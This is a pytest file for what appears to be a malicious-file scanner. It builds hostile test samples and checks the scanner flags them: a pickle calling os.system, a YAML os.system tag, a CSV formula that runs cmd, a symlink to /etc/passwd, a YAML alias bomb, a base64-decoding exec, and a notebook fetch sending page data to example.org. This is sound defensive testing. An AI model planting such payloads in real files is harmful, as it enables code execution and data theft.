"""Files that no suite had foreseen: what they hide is found, and their harmless likes pass. Nothing here is loaded."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import joblib
import numpy as np
import pytest

import mithridate
from mithridate.core.findings import Severity
from mithridate.supply.scan.blob import MemoryBlob
from mithridate.supply.scan.formats.hdf5 import SIGNATURE
from mithridate.supply.scan.formats.hdf5_heaps import global_objects
from mithridate.supply.scan.formats.reading import Window
from mithridate.supply.scan.ordinary import kind_of

PICKLE = b"\x80\x02cos\nsystem\nX\x04\x00\x00\x00true\x85R."


def worst(path: Path) -> int:
    """The gravest severity among a file's or folder's findings; 0 without any."""
    return max((found.severity for found in mithridate.scan(path).findings), default=0)


def written(folder: Path, name: str, content: bytes | str) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def flatten(folder: Path) -> None:
    """Take the nested `d` apart from the outside: what clears temporary folders away can't go so deep."""
    while (folder / "d" / "d").exists():
        (folder / "d" / "d").rename(folder / "e")
        (folder / "d").rmdir()
        (folder / "e").rename(folder / "d")


def notebook(kind: str, source: str, **data: str) -> str:
    cell = {"cell_type": kind, "metadata": {}, "source": source, "outputs": [{"data": data}] if data else []}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def test_a_folder_deeper_than_the_stack_is_walked_to_its_end(tmp_path: Path) -> None:
    deep = os.open(tmp_path, os.O_RDONLY)
    for _ in range(1200):
        os.mkdir("d", dir_fd=deep)
        inner = os.open("d", os.O_RDONLY, dir_fd=deep)
        os.close(deep)
        deep = inner
    file = os.open("x.pkl", os.O_WRONLY | os.O_CREAT, dir_fd=deep)
    os.write(file, PICKLE)
    os.close(file)
    os.close(deep)
    try:
        assert worst(tmp_path) == Severity.CRITICAL
    finally:
        flatten(tmp_path)


def test_a_link_to_what_is_private_is_graver_than_one_to_other_data(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (tmp_path / "a" / "data.bin").symlink_to("/etc/passwd")
    (tmp_path / "b" / "data.csv").symlink_to(written(tmp_path, "elsewhere.csv", "a,b\n1,2\n"))
    assert worst(tmp_path / "a") == Severity.HIGH
    assert worst(tmp_path / "b") == Severity.LOW


@pytest.mark.parametrize(("pack", "at"), [(gzip.compress, -6), (zlib.compress, -2), (bz2.compress, 12)])
def test_a_wrong_checksum_hides_nothing_of_what_a_reader_has_had_by_then(
    tmp_path: Path, pack: Callable[[bytes], bytes], at: int
) -> None:
    packed = bytearray(pack(PICKLE))
    packed[at] ^= 0xFF
    assert worst(written(tmp_path, "m.joblib", bytes(packed))) == Severity.CRITICAL


def test_a_stream_without_error_unpacks_as_before(tmp_path: Path) -> None:
    for number, pack in enumerate((gzip.compress, zlib.compress, bz2.compress, lzma.compress)):
        assert worst(written(tmp_path, f"{number}.joblib", pack(b"\x80\x04]."))) == 0


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("\ufeff!!python/object/new:os.system [x]\n", Severity.CRITICAL),
        ("a: !!js/function 'function(){}'\n", Severity.HIGH),
        ("a: !!js/regexp /x/\n", Severity.LOW),
        ("flavors:\n  python_function:\n    model_code_path: run.py\n", Severity.MEDIUM),
        ("base: &base\n  a: 1\ndev:\n  <<: *base\nx: [*base, *base, *base]\ns: &s [*base]\nt: &t [*s]\n", 0),
    ],
)
def test_yaml_says_what_its_loader_would_do(tmp_path: Path, text: str, severity: int) -> None:
    assert worst(written(tmp_path, "c.yaml", text)) == severity


def test_aliases_of_aliases_that_grow_without_end_are_told(tmp_path: Path) -> None:
    rows = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    rows += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    assert worst(written(tmp_path, "bomb.yaml", "\n".join(rows))) == Severity.HIGH
    assert worst(written(tmp_path, "few.yaml", "\n".join(rows[:3]))) == 0


def test_full_width_signs_begin_a_formula_and_a_heading_does_not(tmp_path: Path) -> None:
    assert worst(written(tmp_path, "a.csv", "id,t\n1,\uff1dcmd|' /C calc'!A0\n")) == Severity.CRITICAL
    assert worst(written(tmp_path, "b.csv", "id,t\n1,\uff1d\u898b\u51fa\u3057\uff1d\n2,\uff0b3\n")) == 0


@pytest.mark.parametrize(
    ("index", "severity"),
    [
        ({"_class_name": ["pipeline", "Mine"], "_diffusers_version": "0.30"}, Severity.MEDIUM),
        ({"_class_name": "P", "_diffusers_version": "0.30", "unet": ["my_unet", "Net"]}, Severity.MEDIUM),
        ({"_class_name": "P", "_diffusers_version": "0.3", "unet": ["diffusers", "UNet2D"], "safety": [None, None]}, 0),
    ],
)
def test_a_pipeline_of_the_repository_s_own_code_is_told(tmp_path: Path, index: object, severity: int) -> None:
    assert worst(written(tmp_path, "model_index.json", json.dumps(index))) == severity


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        (notebook("markdown", "<a href='javascript:alert(1)'>x</a>"), Severity.HIGH),
        (notebook("code", "x", **{"text/latex": "\\href{javascript:eval(1)}{x}"}), Severity.HIGH),
        (notebook("code", "%%javascript\nfetch('https://example.org/' + document.title)"), Severity.HIGH),
        (notebook("code", "x", **{"text/html": '<a href="javascript:code_toggle()">show</a>'}), 0),
        (notebook("code", "%%javascript\nIPython.OutputArea.auto_scroll_threshold = 9"), 0),
    ],
)
def test_links_and_cells_that_run_scripts_are_told_by_what_they_do(tmp_path: Path, text: str, severity: int) -> None:
    assert worst(written(tmp_path, "n.ipynb", text)) == severity


def test_native_code_under_the_name_of_data_is_grave(tmp_path: Path) -> None:
    assert worst(written(tmp_path, "rows.csv", b"MZ" + bytes(200))) == Severity.HIGH
    assert worst(written(tmp_path, "tool.exe", b"MZ" + bytes(200))) == Severity.MEDIUM


def test_source_that_runs_what_it_unpacks_is_grave_and_other_source_is_not(tmp_path: Path) -> None:
    packed = "import base64\nimport sys\nexec(base64.b64decode('cGFzcw=='))\n"
    plain = "import subprocess\nimport sys\nsubprocess.run([sys.executable, '-m', 'x'])\nmodel = pickle.load(f)\n"
    assert worst(written(tmp_path, "a/handler.py", packed)) == Severity.HIGH
    assert worst(written(tmp_path, "b/train.py", plain)) == 0
    assert worst(written(tmp_path, "c/one.py", "exec(__import__('base64').b64decode('cGFzcw=='))")) == Severity.HIGH


def test_avro_is_read_as_far_as_its_schema(tmp_path: Path) -> None:
    plain = b'Obj\x01\x02\x16avro.schema\x80\x02{"type": "string"}\x00' + bytes(16)
    named = plain.replace(b'"string"', b'{"type": "string", "java-class": "org.example.Run"}')
    assert worst(written(tmp_path, "a.avro", plain)) == Severity.LOW
    assert worst(written(tmp_path, "b.avro", named)) == Severity.HIGH


def test_a_pickle_behind_hdf5_data_is_found(tmp_path: Path) -> None:
    address = (1 << 64) - 1
    head = SIGNATURE + b"\x02\x08\x08\x00" + struct.pack("<4Q", 0, address, 64, 48) + bytes(4)
    content = head + b"OHDR\x02\x00\x08" + bytes(9)
    assert worst(written(tmp_path, "a.h5", content)) == 0
    assert worst(written(tmp_path, "b.h5", content + PICKLE)) == Severity.CRITICAL


def test_the_objects_of_a_global_heap_are_listed_and_a_broken_one_ends() -> None:
    one = struct.pack("<HHIQ", 1, 1, 0, len(PICKLE)) + PICKLE.ljust(-(-len(PICKLE) // 8) * 8, b"\0")
    heap = b"GCOL\1\0\0\0" + struct.pack("<Q", 16 + len(one) + 16) + one + bytes(16)
    blob = MemoryBlob("h", bytes(24) + heap)
    assert [blob.read(*found) for found in global_objects(Window(blob), blob.size)] == [PICKLE]
    endless = MemoryBlob("h", b"GCOL\1\0\0\0" + b"\xff" * 40)
    assert len(list(global_objects(Window(endless), endless.size))) <= 1


def test_arrays_of_objects_in_a_row_are_ordinary_in_joblib(tmp_path: Path) -> None:
    made = io.BytesIO()
    joblib.dump(["Encoder", np.array(["x"], dtype=object), np.array(["y"], dtype=object), np.float64], made)
    assert worst(written(tmp_path, "m.joblib", made.getvalue())) == 0


@pytest.mark.parametrize(
    "content",
    [
        b"P6\n8 8\n255\n" + bytes(range(192)),
        b"\x00\x00\x02" + bytes(range(60)) + bytes(8) + b"TRUEVISION-XFILE.\0",
        b"BM" + struct.pack("<I", 246) + bytes(range(240)),
        b"\x72\x02\x01\x00" + bytes(range(200)),
        b"2 2\nthe " + struct.pack("<2f", 1, 2) + b"\nof " + struct.pack("<2f", 3, 4) + b"\n",
        struct.pack("<Q", 3) + bytes.fromhex("b099490e") + b"\x01\x02\x03" + bytes(4),
    ],
)
def test_data_without_a_magic_number_is_known_by_its_shape(content: bytes) -> None:
    blob = MemoryBlob("file", content)
    kind = kind_of(content, blob)[0]
    changed = MemoryBlob("file", b"\x01" + content[1:-20] + b"\x01" * 20)
    assert (kind, kind_of(changed.read(0, 4096), changed)[0]) == ("inert", "unknown")
